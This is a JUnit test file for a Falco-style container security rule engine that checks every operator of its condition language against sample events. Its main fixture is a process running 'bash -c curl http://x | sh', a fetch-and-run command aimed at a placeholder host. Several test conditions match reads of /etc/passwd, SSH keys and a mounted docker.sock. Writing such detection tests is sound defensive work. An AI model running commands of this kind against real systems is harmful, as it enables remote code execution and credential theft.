package dev.vigil.rules;

import static dev.vigil.rules.RuleTestKit.T0;
import static dev.vigil.rules.RuleTestKit.WEB;
import static dev.vigil.rules.RuleTestKit.bind;
import static dev.vigil.rules.RuleTestKit.compileClean;
import static dev.vigil.rules.RuleTestKit.directory;
import static dev.vigil.rules.RuleTestKit.exec;
import static dev.vigil.rules.RuleTestKit.file;
import static dev.vigil.rules.RuleTestKit.info;
import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.event.ContainerDirectory;
import dev.vigil.event.Event;
import dev.vigil.event.ProcessExec;
import dev.vigil.event.StatsSample;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Evaluation of every operator of the condition language with Falco's semantics, one compiled rule per condition,
 * each operator with cases that hold and cases that do not.
 */
class OperatorsTest {

  /** bash started as {@code bash -c curl http://x | sh} from /usr/bin/bash, parent sshd, grandparent systemd. */
  private static final ProcessExec BASH = exec("bash", "/usr/bin/bash", List.of("sshd", "systemd"),
      "bash", "-c", "curl http://x | sh");

  private static final ContainerDirectory DIR = directory(info(Map.of("app", "web"),
      List.of("net_admin", "SYS_PTRACE"), List.of(bind("/srv/data", "/data"), bind("/var/run/docker.sock",
          "/var/run/docker.sock"))));

  private static boolean holds(String condition, Event e) {
    return holds("", condition, e, null);
  }

  private static boolean holds(String condition, Event e, ContainerDirectory dir) {
    return holds("", condition, e, dir);
  }

  /** Compiles {@code condition} (after the lists and macros in {@code prelude}) as one rule and tests {@code e}. */
  private static boolean holds(String prelude, String condition, Event e, ContainerDirectory dir) {
    String yaml = prelude + """
        - rule: under test
          desc: d
          condition: |
            %s
          output: matched
          priority: WARNING
          source: %s
        """.formatted(condition, e.kind().source());
    LoadResult r = compileClean(yaml);
    assertThat(r.enabled()).as("enabled rules for: " + condition).hasSize(1);
    return !RuleTestKit.matches(r, dir, e).isEmpty();
  }

  private static void assertHolds(String condition, Event e) {
    assertThat(holds(condition, e)).as(condition).isTrue();
  }

  private static void assertFails(String condition, Event e) {
    assertThat(holds(condition, e)).as(condition).isFalse();
  }

  private static StatsSample stats(double cpu, long memory) {
    return new StatsSample(T0, WEB, "test", cpu, memory, 1L << 30, 0, 0, 0.0, 0.0, 0, 0, 12);
  }

  // --- equality and ordering ------------------------------------------------------------------------------------

  @Test
  void equals_matchesTheWholeValueOnly() {
    assertHolds("proc.name = bash", BASH);
    assertHolds("proc.name == bash", BASH);
    assertFails("proc.name = bas", BASH);
    assertFails("proc.name == BASH", BASH);
    assertHolds("proc.cmdline = \"bash -c curl http://x | sh\"", BASH);
  }

  @Test
  void equals_onNumbers_comparesNumerically() {
    assertHolds("proc.pid = 1234", BASH);
    assertHolds("proc.pid = 0x4d2", BASH);
    assertFails("proc.pid = 1235", BASH);
    assertHolds("stats.cpu = 75.5", stats(75.5, 100));
    assertFails("stats.cpu = 75", stats(75.5, 100));
  }

  @Test
  void notEquals_holdsForOtherValues() {
    assertHolds("proc.name != sh", BASH);
    assertFails("proc.name != bash", BASH);
    assertHolds("proc.pid != 1", BASH);
    assertFails("proc.pid != 1234", BASH);
  }

  @Test
  void ordering_comparesNumbersIncludingBoundaries() {
    assertHolds("proc.pid < 1235", BASH);
    assertFails("proc.pid < 1234", BASH);
    assertHolds("proc.pid <= 1234", BASH);
    assertFails("proc.pid <= 1233", BASH);
    assertHolds("proc.pid > 1233", BASH);
    assertFails("proc.pid > 1234", BASH);
    assertHolds("proc.pid >= 1234", BASH);
    assertFails("proc.pid >= 1235", BASH);
  }

  @Test
  void ordering_onDecimalField_comparesFractions() {
    assertHolds("stats.cpu > 75.4", stats(75.5, 100));
    assertFails("stats.cpu > 75.5", stats(75.5, 100));
    assertHolds("stats.cpu <= 75.5 and stats.memory >= 100", stats(75.5, 100));
    assertFails("stats.memory < 100", stats(75.5, 100));
  }

  // --- sets -----------------------------------------------------------------------------------------------------

  @Test
  void in_matchesAnyListedValue() {
    assertHolds("proc.name in (sh, bash)", BASH);
    assertFails("proc.name in (sh, zsh)", BASH);
    assertHolds("proc.pid in (1, 1234)", BASH);
    assertFails("proc.pid in (1, 2)", BASH);
  }

  @Test
  void in_expandsNamedListsButNotQuotedNames() {
    String lists = """
        - list: shells
          items: [zsh, bash]
        """;
    assertThat(holds(lists, "proc.name in (sh, shells)", BASH, null)).isTrue();
    assertThat(holds(lists, "proc.name in (sh, \"shells\")", BASH, null)).isFalse();
  }

  @Test
  void intersects_onAncestorNames_matchesWhenAnyAncestorIsListed() {
    assertHolds("proc.aname intersects (nginx, sshd)", BASH);
    assertFails("proc.aname intersects (nginx, cron)", BASH);
  }

  @Test
  void intersects_onAddedCapabilities_matchesNormalisedCapNames() {
    assertThat(holds("container.cap_add intersects (CAP_SYS_ADMIN, CAP_SYS_PTRACE)", BASH, DIR)).isTrue();
    assertThat(holds("container.cap_add intersects (CAP_NET_ADMIN)", BASH, DIR)).isTrue();
    assertThat(holds("container.cap_add intersects (CAP_SYS_ADMIN, CAP_SYS_MODULE)", BASH, DIR)).isFalse();
  }

  // --- strings --------------------------------------------------------------------------------------------------

  @Test
  void contains_isCaseSensitiveSubstring() {
    assertHolds("proc.cmdline contains \"curl http\"", BASH);
    assertFails("proc.cmdline contains CURL", BASH);
    assertFails("proc.cmdline contains wget", BASH);
  }

  @Test
  void icontains_ignoresCase() {
    assertHolds("proc.cmdline icontains CURL", BASH);
    assertFails("proc.cmdline icontains WGET", BASH);
  }

  @Test
  void startswith_matchesPrefix() {
    assertHolds("fd.name startswith /etc/", file("/etc/passwd"));
    assertFails("fd.name startswith /var/", file("/etc/passwd"));
  }

  @Test
  void endswith_matchesSuffix() {
    assertHolds("fd.name endswith .conf", file("/etc/nginx/nginx.conf"));
    assertFails("fd.name endswith .conf", file("/etc/nginx/nginx.conf.bak"));
  }

  @Test
  void glob_star_matchesAnyRun() {
    assertHolds("fd.name glob \"/etc/*.conf\"", file("/etc/nginx.conf"));
    assertFails("fd.name glob \"/etc/*.conf\"", file("/etc/nginx.txt"));
    assertFails("fd.name glob \"/etc/*.conf\"", file("/var/etc/nginx.conf"));
  }

  @Test
  void glob_questionMark_matchesExactlyOneCharacter() {
    assertHolds("proc.name glob \"ba?h\"", BASH);
    assertFails("proc.name glob \"ba?\"", BASH);
    assertFails("proc.name glob \"bas?h\"", BASH);
  }

  @Test
  void glob_bracketRange_matchesOneCharacterOfTheRange() {
    assertHolds("proc.name glob \"[a-c]ash\"", BASH);
    assertFails("proc.name glob \"[x-z]ash\"", BASH);
  }

  @Test
  void glob_isCaseSensitive_iglobIsNot() {
    assertFails("proc.name glob \"BA*\"", BASH);
    assertHolds("proc.name iglob \"BA*\"", BASH);
    assertHolds("proc.name iglob \"B?SH\"", BASH);
    assertFails("proc.name iglob \"ZS*\"", BASH);
  }

  @Test
  void pmatch_prefixMatchesWholePathComponentsOnly() {
    assertHolds("fd.name pmatch (/etc)", file("/etc"));
    assertHolds("fd.name pmatch (/etc)", file("/etc/passwd"));
    assertHolds("fd.name pmatch (/etc)", file("/etc/ssh/sshd_config"));
    assertFails("fd.name pmatch (/etc)", file("/etcx"));
    assertFails("fd.name pmatch (/etc)", file("/etcx/passwd"));
    assertFails("fd.name pmatch (/etc)", file("/var/etc/passwd"));
  }

  @Test
  void pmatch_trailingSlashOnPrefix_isIgnored() {
    assertHolds("fd.name pmatch (/etc/)", file("/etc"));
    assertHolds("fd.name pmatch (/etc/)", file("/etc/passwd"));
    assertFails("fd.name pmatch (/etc/)", file("/etcx"));
  }

  @Test
  void pmatch_anyOfSeveralPrefixes_andNamedLists() {
    String lists = """
        - list: sensitive_dirs
          items: [/root/.ssh, /boot]
        """;
    assertThat(holds(lists, "fd.name pmatch (/etc, sensitive_dirs)", file("/root/.ssh/authorized_keys"), null))
        .isTrue();
    assertThat(holds(lists, "fd.name pmatch (/etc, sensitive_dirs)", file("/root/.sshd"), null)).isFalse();
  }

  @Test
  void pmatch_globPrefix_matchesPathOrItsLeadingComponents() {
    assertHolds("fd.name pmatch (\"/home/*/.ssh\")", file("/home/alice/.ssh"));
    assertHolds("fd.name pmatch (\"/home/*/.ssh\")", file("/home/alice/.ssh/id_rsa"));
    assertFails("fd.name pmatch (\"/home/*/.ssh\")", file("/home/alice/.sshx"));
    assertFails("fd.name pmatch (\"/home/*/.ssh\")", file("/home/alice/ssh/id_rsa"));
  }

  @Test
  void regex_mustMatchTheWholeValue() {
    assertHolds("proc.name regex \"b.sh\"", BASH);
    assertHolds("proc.cmdline regex \".*curl .*\"", BASH);
    assertFails("proc.name regex \"as\"", BASH);
    assertFails("proc.name regex \"^ba\"", BASH);
    assertFails("proc.name regex \"z.*\"", BASH);
  }

  @Test
  void exists_holdsWhenFieldHasANonEmptyValue() {
    assertHolds("proc.exepath exists", BASH);
    assertFails("proc.exepath exists", exec("sh"));
    assertFails("fd.name exists", BASH);
    assertThat(holds("container.label[app] exists", BASH, DIR)).isTrue();
    assertThat(holds("container.label[owner] exists", BASH, DIR)).isFalse();
  }

  // --- missing and multi-valued fields --------------------------------------------------------------------------

  @Test
  void missingValue_neverMatches_evenNotEquals() {
    assertFails("fd.name != /etc/passwd", BASH);
    assertFails("fd.name = /etc/passwd", BASH);
    assertFails("proc.name != bash", file("/etc/passwd"));
    assertFails("proc.pid < 99999", file("/etc/passwd"));
    assertFails("proc.exepath != /bin/sh", exec("sh"));
    assertFails("proc.pname in (sshd, nginx)", exec("sh"));
    assertThat(holds("container.label[app] = web", BASH, null)).as("no container record").isFalse();
    assertThat(holds("container.label[app] != api", BASH, null)).as("no container record").isFalse();
  }

  @Test
  void missingValue_negatedCheckHolds_becauseNotIsAppliedAfterTheCheck() {
    assertHolds("not fd.name = /etc/passwd", BASH);
    assertHolds("not proc.name = bash", file("/etc/passwd"));
  }

  @Test
  void listValuedField_matchesWhenAnyElementMatches() {
    assertHolds("proc.aname = sshd", BASH);
    assertHolds("proc.aname = systemd", BASH);
    assertFails("proc.aname = bash", BASH);
    assertHolds("proc.aname startswith sys", BASH);
    assertFails("proc.aname startswith cron", BASH);
    assertHolds("proc.aname in (cron, systemd)", BASH);
  }

  @Test
  void listValuedField_notEquals_holdsOnlyWhenNoElementIsEqual() {
    assertHolds("proc.aname != nginx", BASH);
    assertFails("proc.aname != sshd", BASH);
    assertFails("proc.aname != nginx", exec("sh"));
  }

  @Test
  void listValuedContainerField_matchesAnyMountSource() {
    assertThat(holds("container.mount.source = /var/run/docker.sock", BASH, DIR)).isTrue();
    assertThat(holds("container.mount.source pmatch (/srv)", BASH, DIR)).isTrue();
    assertThat(holds("container.mount.source = /etc", BASH, DIR)).isFalse();
  }

  // --- transformers ---------------------------------------------------------------------------------------------

  @Test
  void tolower_lowersBeforeComparing() {
    ProcessExec upper = exec("BASH");
    assertHolds("tolower(proc.name) = bash", upper);
    assertFails("proc.name = bash", upper);
    assertFails("tolower(proc.name) = BASH", upper);
  }

  @Test
  void toupper_raisesBeforeComparing() {
    assertHolds("toupper(proc.name) = BASH", BASH);
    assertFails("toupper(proc.name) = bash", BASH);
  }

  @Test
  void basename_keepsTheLastPathComponent() {
    assertHolds("basename(proc.exepath) = bash", BASH);
    assertFails("basename(proc.exepath) = /usr/bin/bash", BASH);
    assertHolds("basename(fd.name) in (passwd, shadow)", file("/etc/passwd"));
  }

  @Test
  void len_turnsStringsAndListsIntoNumbers() {
    assertHolds("len(proc.name) = 4", BASH);
    assertFails("len(proc.name) > 4", BASH);
    assertHolds("len(proc.aname) = 2", BASH);
    assertFails("len(proc.aname) >= 3", BASH);
  }

  @Test
  void b64_decodesBeforeComparing_invalidInputNeverMatches() {
    ProcessExec encoded = exec("echo", "echo", "aGVsbG8=");
    assertHolds("b64(proc.args) = hello", encoded);
    assertFails("b64(proc.args) = \"aGVsbG8=\"", encoded);
    ProcessExec notBase64 = exec("echo", "echo", "%%%");
    assertFails("b64(proc.args) = hello", notBase64);
    assertFails("b64(proc.args) != hello", notBase64);
  }

  @Test
  void transformers_nest_innermostFirst() {
    assertHolds("toupper(basename(proc.exepath)) = BASH", BASH);
    assertFails("toupper(basename(proc.exepath)) = bash", BASH);
  }

  // --- field arguments ------------------------------------------------------------------------------------------

  @Test
  void anameIndex_zeroIsTheProcess_oneTheParent_twoTheGrandparent() {
    assertHolds("proc.aname[0] = bash", BASH);
    assertHolds("proc.aname[1] = sshd", BASH);
    assertHolds("proc.aname[2] = systemd", BASH);
    assertFails("proc.aname[1] = systemd", BASH);
    assertFails("proc.aname[2] = sshd", BASH);
    assertFails("proc.aname[3] exists", BASH);
  }

  @Test
  void containerLabel_readsTheNamedLabel() {
    assertThat(holds("container.label[app] = web", BASH, DIR)).isTrue();
    assertThat(holds("container.label[app] = api", BASH, DIR)).isFalse();
    assertThat(holds("container.label[missing] != web", BASH, DIR)).isFalse();
  }

  @Test
  void containerMountSourceByDestination_andDestinationBySource() {
    assertThat(holds("container.mount.source[/data] = /srv/data", BASH, DIR)).isTrue();
    assertThat(holds("container.mount.source[/data] = /data", BASH, DIR)).isFalse();
    assertThat(holds("container.mount.source[/nowhere] exists", BASH, DIR)).isFalse();
    assertThat(holds("container.mount.dest[/srv/data] = /data", BASH, DIR)).isTrue();
    assertThat(holds("container.mount.dest[/srv/data] = /srv/data", BASH, DIR)).isFalse();
  }

  // --- val() ----------------------------------------------------------------------------------------------------

  @Test
  void val_comparesAgainstAnotherFieldOfTheSameEvent() {
    ProcessExec bashUnderBash = exec("bash", "", List.of("bash"), "bash");
    assertHolds("proc.name = val(proc.pname)", bashUnderBash);
    assertFails("proc.name = val(proc.pname)", BASH);
    assertHolds("proc.name != val(proc.pname)", BASH);
    assertFails("proc.name != val(proc.pname)", bashUnderBash);
    assertFails("proc.name = val(proc.pname)", exec("sh"));
  }

  // --- boolean structure ----------------------------------------------------------------------------------------

  @Test
  void and_bindsTighterThanOr() {
    String cond = "proc.name = sh or proc.name = bash and proc.pid = 1";
    assertFails(cond, BASH);
    assertHolds(cond, exec("sh"));
    assertHolds("(proc.name = sh or proc.name = bash) and proc.pid = 1234", BASH);
    assertFails("(proc.name = sh or proc.name = bash) and proc.pid = 1", BASH);
  }

  @Test
  void not_bindsTighterThanAnd() {
    assertHolds("not proc.name = sh and proc.name = bash", BASH);
    assertFails("not proc.name = bash and proc.pid = 1234", BASH);
    assertFails("not (proc.name = sh or proc.name = bash)", BASH);
    assertHolds("not not proc.name = bash", BASH);
  }
}
